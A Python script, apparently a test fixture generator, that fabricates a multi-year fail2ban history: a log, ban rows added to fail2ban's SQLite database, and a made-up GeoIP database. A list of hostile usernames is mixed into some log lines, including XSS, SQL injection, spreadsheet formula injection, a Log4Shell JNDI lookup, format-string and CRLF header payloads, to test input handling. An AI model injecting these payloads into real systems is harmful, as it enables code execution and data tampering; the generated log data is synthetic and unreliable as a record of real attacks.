"""A realistic past of a server, for anyone to make: rotated log, the daemon's own records with the lines that led to bans, and
geo data that knows the addresses.

    python history.py FOLDER [--events N] [--years Y] [--seed S]

The same seed makes the same past, counted back from now. One address in a hundred makes half of the events; some come in
campaigns, many of one /24 within hours; ten failures lead to a ban, and one visit in four gives up before; a ban ends after ten
minutes. One ban in fifty was led to by a line with bytes that someone chose to do harm.
"""

from __future__ import annotations

import argparse
import heapq
import ipaddress
import json
import random
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path

from mmdb_writer import MMDBWriter
from netaddr import IPSet

JAILS = ("sshd", "nginx-http-auth", "dovecot", "postfix", "recidive")
WEIGHTS = (60, 15, 10, 10, 5)
FAILURES = 10
BAN_SECONDS = 600
USERS = ("root", "admin", "ubuntu", "test", "oracle", "git", "postgres", "deploy", "pi", "www-data", "jürgen", "minecraft")
HOSTILE = (
    "<script>alert(1)</script>", "=cmd|'/C calc'!A0", "\u202etxt.exe", "\x1b[31mred\x1b[0m", "a\x00b", "' OR 1=1 --",
    "\ufffd\ufffd", "%s%n%x", "x" * 400, "${jndi:ldap://192.0.2.1/a}", "\r\nSet-Cookie: a=b", "\ud7ff\ue000")
# Countries by their share of the networks: few are most of it, and some are hardly ever seen.
COUNTRIES = ("CN", "US", "RU", "BR", "IN", "VN", "DE", "NL", "FR", "KR", "ID", "GB", "TW", "IR", "UA", "SG", "HK", "TH", "MX", "AR",
             "IT", "ES", "PL", "RO", "BG", "TR", "ZA", "EG", "PK", "BD", "CO", "CL", "JP", "CA", "AU", "SE", "CZ", "MC", "LI", "TV")
NETWORKS = 600


@dataclass
class Past:
    """What was made, and what of it is worth asking for."""

    lines: int
    bans: int
    last: datetime
    heavy: str
    light: str
    network: str
    country: str
    rare_country: str
    asn: int
    user: str


@dataclass
class Network:
    """A /16 (of IPv6 a /32) of one country and operator."""

    prefix: ipaddress.IPv4Network | ipaddress.IPv6Network
    country: str
    asn: int

    def address(self, dice: random.Random, subnet: int | None = None) -> str:
        base = int(self.prefix.network_address)
        if self.prefix.version == 6:
            return str(ipaddress.IPv6Address(base + (dice.getrandbits(20) << 64) + dice.getrandbits(16)))
        return str(ipaddress.IPv4Address(base + ((dice.getrandbits(8) if subnet is None else subnet) << 8) + dice.randrange(1, 255)))


def make_networks(dice: random.Random) -> list[Network]:
    """Networks in space that is routed, one in twelve of IPv6."""
    firsts = [number for number in range(1, 224) if number not in (10, 100, 127, 169, 172, 192, 198, 203)]
    seen: set[tuple[int, int]] = set()
    networks = []
    for number in range(NETWORKS):
        country = COUNTRIES[min(int(dice.expovariate(0.13)), len(COUNTRIES) - 1)]
        # An operator has several networks, and some are in several countries.
        asn = 3000 + dice.randrange(NETWORKS // 3) * 7
        if number % 12 == 11:
            networks.append(Network(ipaddress.IPv6Network((0x2400_0000 + number << 96, 32)), country, asn))
            continue
        while (pair := (dice.choice(firsts), dice.randrange(256))) in seen:
            pass
        seen.add(pair)
        networks.append(Network(ipaddress.IPv4Network(f"{pair[0]}.{pair[1]}.0.0/16"), country, asn))
    return networks


def write_geo(path: Path, networks: list[Network]) -> None:
    """An MMDB that knows country and operator of each network."""
    writer = MMDBWriter(ip_version=6, ipv4_compatible=True, database_type="Bench-Country-ASN", description="made by history.py")
    for network in networks:
        writer.insert_network(IPSet([str(network.prefix)]), {
            "country": {"iso_code": network.country}, "autonomous_system_number": network.asn,
            "autonomous_system_organization": f"Operator {network.asn} of {network.country}"})
    writer.to_db_file(str(path))


class Visits:
    """Who comes when: half of all visits are of one address in a hundred."""

    def __init__(self, dice: random.Random, networks: list[Network], addresses: int) -> None:
        self.dice, self.networks = dice, networks
        self.heavy = [dice.choice(networks).address(dice) for _ in range(max(4, addresses // 100))]
        self.light = [dice.choice(networks).address(dice) for _ in range(addresses)]
        self.campaign: tuple[Network, int, int] | None = None

    def next(self, progress: float) -> str:
        dice = self.dice
        if self.campaign is None and dice.random() < 0.0004:
            v4 = [network for network in self.networks if network.prefix.version == 4]
            self.campaign = (dice.choice(v4), dice.randrange(256), dice.randrange(50, 400))
        if self.campaign and dice.random() < 0.3:
            network, subnet, left = self.campaign
            self.campaign = (network, subnet, left - 1) if left > 1 else None
            return network.address(dice, subnet)
        if dice.random() < 0.5:
            return dice.choice(self.heavy)
        # Light ones are seen for some weeks, then others are.
        place = int(progress * len(self.light)) + dice.randrange(-len(self.light) // 40, len(self.light) // 40 + 1)
        return self.light[place % len(self.light)]


@dataclass
class Record:
    """A ban as the daemon keeps it."""

    jail: str
    address: str
    at: int
    count: int
    lines: list[str]


def tell(dice: random.Random, jail: str, address: str, at: datetime) -> str:
    """A line of an application about a failure."""
    user = dice.choice(HOSTILE) if dice.random() < 0.002 else dice.choice(USERS)
    port, process = dice.randrange(1024, 65535), dice.randrange(300, 99999)
    stamp = f"{at:%b %d %H:%M:%S}"
    if jail == "sshd":
        return f"{stamp} bastion sshd[{process}]: Failed password for invalid user {user} from {address} port {port} ssh2"
    if jail == "dovecot":
        return f"{stamp} bastion dovecot: imap-login: Aborted login (auth failed, 1 attempts): user=<{user}>, rip={address}"
    if jail == "postfix":
        return f"{stamp} bastion postfix/smtpd[{process}]: warning: unknown[{address}]: SASL LOGIN authentication failed: {user}"
    return f'{at:%Y/%m/%d %H:%M:%S} [error] {process}#0: *{port} user "{user}": password mismatch, client: {address}, host: "mail"'


def events(dice: random.Random, visits: Visits, most: int, begin: datetime, end: datetime) -> Iterator[tuple[datetime, str, Record | None]]:
    """Some `most` lines up to the end, in the order of their time, each with the record that comes with it."""
    pending: list[tuple[datetime, int, str, Record | None]] = []
    counts: dict[tuple[str, str], int] = {}
    per_visit = (FAILURES + 2) * 0.75 + 2.5 * 0.25
    step = (end - begin) / (most / per_visit)
    (moment, number) = (begin, 0)
    while moment < end:
        moment += step * dice.expovariate(1)
        while pending and pending[0][0] <= min(moment, end):
            at, _, line, record = heapq.heappop(pending)
            yield at, line, record
        (jail,) = dice.choices(JAILS, WEIGHTS)
        address = visits.next(min((moment - begin) / (end - begin), 0.999))
        gives_up = dice.random() < 0.25
        lines, at = [], moment
        for _ in range(dice.randrange(1, 5) if gives_up else FAILURES):
            at += timedelta(seconds=dice.expovariate(0.25) + 0.001)
            lines.append(tell(dice, jail, address, at))
            number += 1
            heapq.heappush(pending, (at, number, f"fail2ban.filter         [812]: INFO    [{jail}] Found {address} - {at:%Y-%m-%d %H:%M:%S}", None))
        if not gives_up:
            at += timedelta(seconds=0.4)
            count = counts[jail, address] = counts.get((jail, address), 0) + 1
            record = Record(jail, address, int(at.timestamp()), count, lines)
            number += 2
            heapq.heappush(pending, (at, number - 1, f"fail2ban.actions        [812]: NOTICE  [{jail}] Ban {address}", record))
            ended = at + timedelta(seconds=BAN_SECONDS)
            heapq.heappush(pending, (ended, number, f"fail2ban.actions        [812]: NOTICE  [{jail}] Unban {address}", None))


def write_records(path: Path, records: list[Record]) -> None:
    """Adds bans to the daemon's own database, which it has made before and does not have open."""
    with sqlite3.connect(path) as database:
        database.execute("PRAGMA synchronous = OFF")
        database.executemany("INSERT OR IGNORE INTO jails (name, enabled) VALUES (?, 1)", [(jail,) for jail in JAILS])
        database.executemany(
            "INSERT INTO bans (jail, ip, timeofban, bantime, bancount, data) VALUES (?, ?, ?, ?, ?, ?)",
            ((each.jail, each.address, each.at, BAN_SECONDS, each.count, json.dumps(
                {"matches": each.lines, "failures": FAILURES}, ensure_ascii=False).encode("utf-8", "surrogatepass"))
             for each in records))


def make(folder: Path, most: int, years: float = 3, seed: int = 1, database: Path | None = None) -> Past:
    """Writes `history.log`, `geo.mmdb`, and the records into `database` where there is one; the past ends an hour ago."""
    dice = random.Random(seed)
    networks = make_networks(dice)
    write_geo(folder / "geo.mmdb", networks)
    visits = Visits(dice, networks, max(1000, most // 50))
    end = datetime.now(timezone.utc).replace(microsecond=0) - timedelta(hours=1)
    written, bans, last = 0, 0, end
    records: list[Record] = []
    with (folder / "history.log").open("w") as log:
        for at, line, record in events(dice, visits, most, end - timedelta(days=365.25 * years), end):
            log.write(f"{at:%Y-%m-%d %H:%M:%S},{at.microsecond // 1000:03} {line}\n")
            written, last = written + 1, at
            if record is not None:
                bans += 1
                records.append(record)
            if len(records) >= 20_000 and database is not None:
                write_records(database, records)
                records.clear()
    if database is not None:
        write_records(database, records)
    by_country = sorted({network.country for network in networks}, key=lambda code: sum(n.country == code for n in networks))
    common = next(network for network in networks if network.country == by_country[-1] and network.prefix.version == 4)
    return Past(
        written, bans, last, visits.heavy[0], visits.light[len(visits.light) // 2], str(common.prefix), by_country[-1],
        by_country[0], common.asn, "jürgen")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("folder", type=Path)
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--years", type=float, default=3)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--database", type=Path, help="fail2ban's own database, to which the records are added")
    options = parser.parse_args()
    options.folder.mkdir(parents=True, exist_ok=True)
    print(make(options.folder, options.events, options.years, options.seed, options.database))


if __name__ == "__main__":
    main()
